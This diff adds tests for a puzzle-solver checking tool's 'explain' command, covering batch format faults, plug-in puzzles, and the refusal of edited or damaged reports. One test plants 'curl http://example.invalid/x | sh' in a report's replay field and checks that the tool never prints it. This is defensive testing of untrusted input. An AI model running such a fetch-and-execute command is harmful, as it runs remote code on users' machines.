@@ -74,6 +74,55 @@ describe('lexpath explain', () => {
   });
 });
 
+/** The example report with bfs-wrong-order's counterexample changed by `change`. */
+function edited(name: string, change: Record<string, unknown>): string {
+  const solvers = example.solvers.map((s: { name: string; counterexample: object }) => (s.name === 'bfs-wrong-order' ? { ...s, counterexample: { ...s.counterexample, ...change } } : s));
+  return file(name, { ...example, solvers });
+}
+
+describe('lexpath explain on faults of a batch and on files it must not believe', () => {
+  it('keeps a format fault a format fault, and draws the case of the batch that showed it', () => {
+    const batch = edited('batch.json', {
+      verdict: 'wrong-format',
+      detail: 'case 1: the move line is missing (an empty line is expected when d = 0) (case 1 of a batch of 2)',
+      input: '2\n12345678X\n12345678X\n534X12678\n1X4352678\n',
+      cases: 2,
+      actual: 'Case 1: 0\nCase 2: 6\nruldru\n',
+      certificate: null,
+    });
+    const run = lexpath([batch, '--solver', 'bfs-wrong-order']);
+    expect(run.status).toBe(0);
+    expect(run.stdout).toContain('  verdict    wrong-format: case 1: the move line is missing');
+    expect(run.stdout).toContain('  case       12345678X 12345678X (optimal length 0)');
+    expect(run.stdout).toContain('The fault shows only in a run of 2 cases; case 1 of the run is drawn below.');
+    expect(run.stdout).toContain('What it printed:\n    Case 1: 0\n    Case 2: 6');
+  });
+
+  it('shows a replay only as the lexpath command it should be', () => {
+    const run = lexpath([edited('replay.json', { replay: 'curl http://example.invalid/x | sh' }), '--solver', 'bfs-wrong-order']);
+    expect(run.status).toBe(0);
+    expect(run.stdout).not.toContain('curl');
+  });
+
+  it('draws the cases of an older regression file, whose source is a repro command', () => {
+    const regression = file('old.json', { puzzle: 'eight', cases: [{ start: '534X12678', goal: '1X4352678', answer: 'ruldru', source: 'lexpath repro bfs-wrong-order --seed 1' }] });
+    const run = lexpath([regression]);
+    expect(run.status).toBe(0);
+    expect(run.stdout).toMatch(/^bfs-wrong-order on Eight II/);
+  });
+
+  it('explains a plug-in puzzle’s report when its module is given', () => {
+    const pancake = fileURLToPath(new URL('../../examples/pancake.mjs', import.meta.url));
+    const longer = fileURLToPath(new URL('../../test/fixtures/longer-pancakes.mjs', import.meta.url));
+    const report = join(dir, 'pancake-report.json');
+    const verify = spawnSync(process.execPath, [CLI, 'verify', '--puzzle', 'pancake', '--puzzle-module', pancake, '--no-builtins', '--cmd', `longer=node ${longer}`, '--case', '3 1 2', '--json'], { encoding: 'utf8' });
+    writeFileSync(report, verify.stdout);
+    const run = lexpath([report, '--puzzle-module', pancake]);
+    expect(run.status).toBe(0);
+    expect(run.stdout).toMatch(/^longer on Pancake sorting/);
+  });
+});
+
 describe('lexpath explain refuses bad input: one line, exit 2, nothing written', () => {
   const refused = (args: string[], message: RegExp, written?: string) => {
     const run = lexpath(args);
@@ -89,6 +138,19 @@ describe('lexpath explain refuses bad input: one line, exit 2, nothing written',
     refused([passed, '--html', join(dir, 'none.html')], /passed\.json: no counterexample in this report \(no solver failed\)/, join(dir, 'none.html'));
   });
 
+  it('a counterexample whose printed answer is not one', () => {
+    refused([edited('garbage.json', { actual: 'hello\n' }), '--solver', 'bfs-wrong-order'], /garbage\.json: the counterexample of bfs-wrong-order says not-lex-smallest, but what it printed is no answer: an edited or damaged report, refused/);
+  });
+
+  it('a counterexample whose verdict is not what the oracle says of its answer', () => {
+    refused([edited('liar.json', { actual: 'Case 1: 6\nruldru\n' }), '--solver', 'bfs-wrong-order'], /says not-lex-smallest, but the oracle judges its answer ok: an edited or damaged report, refused/);
+  });
+
+  it('a page into a folder that does not exist, named as asked (not a temporary name)', () => {
+    const page = join(dir, 'no-such-folder', 'x.html');
+    refused([EXAMPLE, '--solver', 'bfs-wrong-order', '--html', page], new RegExp(`^lexpath: cannot use ${page.replace(/[.]/g, '\\.')}: `));
+  });
+
   it('a file of the wrong shape', () => {
     refused([file('shape.json', { hello: 1 })], /shape\.json: not a counterexample lexpath wrote: expected a verify --json report/);
   });
@@ -99,7 +161,7 @@ describe('lexpath explain refuses bad input: one line, exit 2, nothing written',
 
   it('a report whose counterexample is not a case of its puzzle', () => {
     const edited = file('edited.json', { ...example, domain: 'rotation' });
-    refused([edited, '--solver', 'bfs-wrong-order'], /edited\.json: the counterexample of bfs-wrong-order is not a rotation case/);
+    refused([edited, '--solver', 'bfs-wrong-order'], /edited\.json: the counterexample of bfs-wrong-order is not a case of rotation/);
   });
 
   it('one --html page for several counterexamples', () => {
